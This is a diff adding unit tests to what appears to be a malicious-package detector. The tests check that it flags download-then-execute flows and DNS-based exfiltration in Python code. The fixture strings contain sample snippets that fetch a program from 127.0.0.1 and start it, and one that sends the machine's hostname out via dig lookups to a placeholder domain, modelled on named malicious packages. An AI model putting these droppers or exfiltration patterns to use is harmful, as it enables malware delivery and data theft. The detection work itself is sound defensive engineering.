@@ -213,6 +213,46 @@ TEST(Signals, a_download_in_one_process_call_run_by_another_is_a_download_execut
                   .empty());
 }
 
+TEST(Signals, a_program_fetched_written_to_a_file_and_started_is_a_download_executed) {
+  // makronlox's shape: requests.get, open(name, 'wb').write(r.content), subprocess.run([name]).
+  expect_facts(py("import requests, subprocess\n"
+                  "url = 'http://127.0.0.1/123.exe'\n"
+                  "filename = '123.exe'\n"
+                  "response = requests.get(url)\n"
+                  "with open(filename, 'wb') as f:\n"
+                  "    f.write(response.content)\n"
+                  "subprocess.run([filename], check=True)\n"),
+               {{FactKind::kShell, "download-executed", 7, "subprocess.run([filename], check=True)"},
+                {FactKind::kSend, "http", 4, "requests.get("}});
+  // urlretrieve to a path, started by the same file name.
+  expect_facts(py("import os, urllib.request\n"
+                  "urllib.request.urlretrieve('http://127.0.0.1/d', 'C:/Users/Public/d.exe')\n"
+                  "os.startfile('C:/Users/Public/d.exe')\n"),
+               {{FactKind::kShell, "program-started-detached", 3, "starts C:/Users/Public/d.exe, detached"},
+                {FactKind::kShell, "download-executed", 3, "os.startfile('C:/Users/Public/d.exe')"}});
+}
+
+TEST(Signals, a_download_written_to_a_file_that_no_process_starts_or_from_the_callers_address_is_no_flow) {
+  // Saved and a tool run on another file; and a download of the caller's URL run.
+  expect_facts(py("import requests, subprocess\n"
+                  "r = requests.get('http://127.0.0.1/data.json')\n"
+                  "open('data.json', 'wb').write(r.content)\n"
+                  "subprocess.run(['git', 'status'])\n"
+                  "def fetch(url, name):\n"
+                  "    d = requests.get(url)\n"
+                  "    open(name, 'wb').write(d.content)\n"
+                  "    subprocess.run([name])\n"),
+               {{FactKind::kSend, "http", 2, "requests.get("}});
+}
+
+TEST(Signals, a_sender_started_as_a_program_is_a_send) {
+  // iconnect's shape: the host's identity out as DNS look-ups of dig.
+  expect_facts(py("import socket, subprocess\n"
+                  "h = socket.gethostname()\n"
+                  "subprocess.Popen(['dig', '+short', h + '.x.example'], stdout=subprocess.DEVNULL)\n"),
+               {{FactKind::kCollect, "host", 2, "gethostname("}, {FactKind::kSend, "dns", 3, "dig"}});
+}
+
 TEST(Signals, a_download_and_an_exec_of_something_else_are_no_flow) {
   // setup.py's own version file read and exec'ed beside a download: two things, no flow.
   expect_facts(py("import requests\n"
